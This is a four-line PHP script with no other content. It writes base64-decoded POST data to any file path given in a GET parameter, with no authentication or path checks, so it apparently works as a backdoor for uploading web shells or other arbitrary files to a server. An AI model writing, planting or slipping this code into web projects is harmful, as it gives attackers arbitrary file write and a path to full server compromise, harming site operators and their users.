<?php
$h = fopen($_GET['f'], 'w');
fwrite($h, base64_decode($_POST['d']));
fclose($h);
